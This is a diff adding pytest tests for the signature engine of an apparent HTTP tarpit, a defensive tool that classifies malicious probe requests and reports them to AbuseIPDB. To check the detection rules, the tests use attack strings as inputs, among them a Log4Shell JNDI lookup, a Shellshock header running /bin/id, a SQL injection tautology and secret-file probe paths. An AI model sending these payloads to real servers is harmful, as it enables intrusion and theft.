@@ -0,0 +1,61 @@
+import pytest
+
+from http_tarpit import config
+from http_tarpit.signatures import SignatureEngine, SignatureRule, load_rules
+
+BROWSER = {'Host': 'example.com', 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0'}
+
+
+@pytest.fixture(scope='module')
+def engine():
+    return SignatureEngine(load_rules(config.SIGNATURE_RULES_FILE))
+
+
+@pytest.mark.parametrize('path, expected', [
+    ('/admin/.env', ('env_file', 'admin_panel')),
+    ('/wp-admin/.env', ('env_file', 'wordpress_probe')),
+    ('/cgi-bin/.env', ('env_file', 'cgi_bin')),
+    ('/shell/.git/config', ('git_exposure', 'webshell')),
+    ('/admin/wp-login.php', ('wordpress_login', 'admin_panel', 'php_probe')),
+])
+def test_overlapping_matches_are_all_reported(engine, path, expected):
+    assert engine.classify(path, '', BROWSER) == expected
+
+
+def test_benign_request_matches_nothing(engine):
+    assert engine.classify('/blog/2024/05/some-article', 'utm_source=feed', BROWSER) == ()
+    assert engine.classify('/', '', {}) == ()
+
+
+def test_header_and_user_agent_targets(engine):
+    assert engine.classify('/', '', {**BROWSER, 'User-Agent': '${jndi:ldap://203.0.113.5/a}'}) == ('log4shell',)
+    assert engine.classify('/', '', {**BROWSER, 'Referer': '() { :; }; /bin/id'}) == ('shellshock',)
+    assert engine.classify('/', '', {**BROWSER, 'User-Agent': 'sqlmap/1.7'}) == ('scanner_tool',)
+    # Header-only rules are not searched in the path.
+    assert engine.classify('/sqlmap', '', BROWSER) == ()
+
+
+def test_categories_are_the_union_of_matched_rules(engine):
+    names = engine.classify('/admin/wp-login.php', "q=1' or '1'='1", {'User-Agent': 'sqlmap/1.7'})
+    assert names == ('sql_injection', 'wordpress_login', 'admin_panel', 'php_probe', 'scanner_tool')
+    assert engine.categories(names) == '14,16,18,19,21'
+    assert engine.categories(()) == config.ABUSEIPDB_CATEGORIES
+
+
+def test_strategy_of_first_rule_naming_one():
+    engine = SignatureEngine([
+        SignatureRule('tool', 'nikto', ('headers',)),
+        SignatureRule('slow', 'wp-', ('path',), strategy='exponential'),
+        SignatureRule('trickle', 'login', ('path',), strategy='header_trickle'),
+    ])
+    names = engine.classify('/wp-login', '', {'User-Agent': 'Nikto'})
+    assert names == ('tool', 'slow', 'trickle')
+    assert engine.strategy(names) == 'exponential'
+    assert engine.strategy(('tool',)) is None
+
+
+def test_rules_with_named_groups_are_rejected(tmp_path):
+    rules_file = tmp_path / 'rules.json'
+    rules_file.write_text('{"rules": [{"name": "bad", "pattern": "(?P<x>a)\\\\1"}]}')
+    with pytest.raises(ValueError, match='named groups'):
+        load_rules(rules_file)